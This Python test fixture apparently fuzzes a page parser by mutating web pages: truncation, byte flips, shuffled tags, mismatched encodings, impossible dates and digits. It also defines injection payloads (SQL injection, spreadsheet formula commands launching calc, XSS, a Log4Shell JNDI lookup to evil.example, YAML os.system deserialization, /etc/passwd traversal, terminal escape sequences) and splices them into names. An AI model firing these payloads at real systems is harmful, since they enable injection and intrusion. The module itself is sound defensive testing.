"""Sound pages spoiled in the ways that editors, proxies and attackers spoil them. Each takes bytes and a seeded source of chance."""

from __future__ import annotations

import random
import re
from collections.abc import Callable

from tests.hostile.sound_pages import base

_TAG = re.compile(rb"<[^<>]{1,400}>")
TERMINAL = ("\x1b[2J\x1b[31m", "\x1b]0;owned\x07", "\x9b31m", "\x1b]8;;http://evil.example\x07", "\x08\x08", "\r\x1b[K")
UNSEEN = (
    "\u202e",
    "\u2066",
    "\u200b",
    "\u00ad",
    "\ufeff",
    "\u2028",
    "\u2029",
    "\u0301" * 40,
    "\U000e0041",
    "\u0000",
    "\ufffe",
)
BREAKOUTS = (
    '"; DROP TABLE mentions; --', "=HYPERLINK(\"http://evil.example\";\"x\")", "+49361+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '"\r\n"x","y"', "\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Evil", "\r\nEND:VEVENT\r\nBEGIN:VEVENT", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "!!python/object/apply:os.system ['true']", "%s%n%x",
    "[red]bold[/red]", "../../../../etc/passwd", "'; COPY (SELECT 1) TO 'x'; --",
)  # fmt: skip


def cut(body: bytes, chance: random.Random) -> bytes:
    """The connection ended early."""
    return body[: chance.randrange(1, len(body))]


def flipped(body: bytes, chance: random.Random) -> bytes:
    """Some bytes are others."""
    raw = bytearray(body)
    for _ in range(max(1, len(raw) // 60)):
        raw[chance.randrange(len(raw))] = chance.randrange(256)
    return bytes(raw)


def tags_dropped(body: bytes, chance: random.Random) -> bytes:
    """A third of the tags is missing."""
    return _TAG.sub(lambda match: b"" if chance.random() < 0.33 else match.group(), body)


def tags_doubled(body: bytes, chance: random.Random) -> bytes:
    """Tags come several times."""
    return _TAG.sub(lambda match: match.group() * chance.choice((1, 1, 2, 40)), body)


def tags_shuffled(body: bytes, chance: random.Random) -> bytes:
    """All tags are there, in another order."""
    tags = _TAG.findall(body)
    chance.shuffle(tags)
    left = iter(tags)
    return _TAG.sub(lambda match: next(left), body)


def repeated(body: bytes, chance: random.Random) -> bytes:
    """A slice of the page comes hundreds of times."""
    start = chance.randrange(len(body))
    piece = body[start : start + chance.randrange(20, 2000)]
    return body[:start] + piece * chance.randrange(50, 400) + body[start:]


def wrapped(body: bytes, chance: random.Random) -> bytes:
    """The content lies deep in boxes."""
    tag = chance.choice(
        (b"div", b"span", b"table><tr><td", b"ul><li", b"blockquote", b"font", b"b", b"form", b"section")
    )
    return (
        b"<html><body>"
        + b"<"
        + tag.replace(b"><", b">\n<")
        + b">"
        + (b"<" + tag + b">") * chance.randrange(50, 3000)
        + body
    )


def sprinkled(body: bytes, chance: random.Random) -> bytes:
    """NUL, control and unseen signs between the letters."""
    signs = [s.encode("utf-8", "surrogatepass") for s in (*UNSEEN, *TERMINAL)] + [
        b"\x00",
        b"\xff",
        b"\xed\xa0\x80",
        b"\xc0\x80",
    ]
    raw = bytearray(body)
    for _ in range(chance.randrange(5, 60)):
        at = chance.randrange(len(raw))
        raw[at:at] = chance.choice(signs)
    return bytes(raw)


def named_evil(body: bytes, chance: random.Random) -> bytes:
    """Names, firms and titles carry what breaks out of terminals, CSV, HTML, vCards and statements."""
    text = body.decode("utf-8", "replace")
    words = re.findall(r"[A-ZÄÖÜ][a-zäöüß]{3,}", text)
    for _ in range(3):
        word = chance.choice(words) if words else "x"
        text = text.replace(word, f"{word} {chance.choice((*TERMINAL, *BREAKOUTS, *UNSEEN))}", chance.randrange(1, 4))
    return text.encode("utf-8", "surrogatepass")


def references(body: bytes, chance: random.Random) -> bytes:
    """Characters as references, many of them impossible."""
    bad = (
        "&#0;",
        "&#x1b;[31m",
        "&#xD800;",
        "&#x110000;",
        "&#99999999999999;",
        "&lt;script&gt;",
        "&nosuch;",
        "&#x202e;",
        "&#65534;",
    )
    text = body.decode("utf-8", "replace")
    parts = text.split(" ")
    for _ in range(chance.randrange(3, 40)):
        parts.insert(chance.randrange(len(parts) + 1), chance.choice(bad))
    return " ".join(parts).encode()


def escaped_json(body: bytes, chance: random.Random) -> bytes:
    """Structured data whose strings decode to lone surrogates, controls and breakouts."""
    bad = ("\\ud800", "\\udfff\\ud800", "\\u0000", "\\u001b[2J", "\\u202e", '\\"; DROP', "\\u2028", "\\n\\nEND:VCARD")
    pieces = re.split(rb'("name": ")', body)
    return b"".join(
        p + (chance.choice(bad).encode() if p == b'"name": "' and chance.random() < 0.7 else b"") for p in pieces
    )


def recoded(body: bytes, chance: random.Random) -> bytes:
    """Written in one encoding, declared in another."""
    text = body.decode("utf-8", "replace")
    name = chance.choice(
        ("utf-16", "utf-16-le", "utf-32", "cp1252", "cp850", "mac_roman", "shift_jis", "koi8_r", "utf-7", "cp037")
    )
    lie = chance.choice(("utf-8", "utf-16", "utf-32", "iso-8859-1", "x-user-defined", "hz-gb-2312", "none", "a" * 5000))
    return text.replace("utf-8", lie, 1).encode(name, "replace")


def twice_encoded(body: bytes, chance: random.Random) -> bytes:
    """UTF-8 taken for cp1252 and encoded again, up to four times."""
    for _ in range(chance.randrange(1, 5)):
        body = body.decode("cp1252", "replace").encode()
    return body


def years(body: bytes, chance: random.Random) -> bytes:
    """Days and years that no calendar has."""
    bad = (b"0000", b"0001", b"9999", b"99999", b"-123", b"2024-02-30", b"1e9")
    return re.sub(rb"20[0-9]{2}", lambda match: chance.choice(bad) if chance.random() < 0.6 else match.group(), body)


def digits(body: bytes, chance: random.Random) -> bytes:
    """Numbers without end and digits of other scripts."""
    bad = ("9" * 5000, "٣٤٥", "१२३", "¹²³", "⑨", "0" * 300, "1.1.1.1.1.1.1.1", "-0", "NaN", "1_000")
    text = body.decode("utf-8", "replace")
    return re.sub(r"\d{3,}", lambda m: chance.choice(bad) if chance.random() < 0.3 else m.group(), text).encode()


def joined(body: bytes, chance: random.Random) -> bytes:
    """Several pages in one answer."""
    return b"".join(
        [body, *(base(chance.choice(("news", "event", "company")), chance) for _ in range(chance.randrange(2, 30)))]
    )


MUTATIONS: tuple[Callable[[bytes, random.Random], bytes], ...] = (
    cut, flipped, tags_dropped, tags_doubled, tags_shuffled, repeated, wrapped, sprinkled, named_evil, references,
    escaped_json, recoded, twice_encoded, years, digits, joined,
)  # fmt: skip


def mutated(kind: str, seed: str, which: int) -> bytes:
    """Return a sound page of `kind` under the mutation `which`, and half of the time under a second one."""
    chance = random.Random(seed)
    body = MUTATIONS[which % len(MUTATIONS)](base(kind, chance), chance)
    return chance.choice(MUTATIONS)(body, chance) if chance.random() < 0.5 and body else body
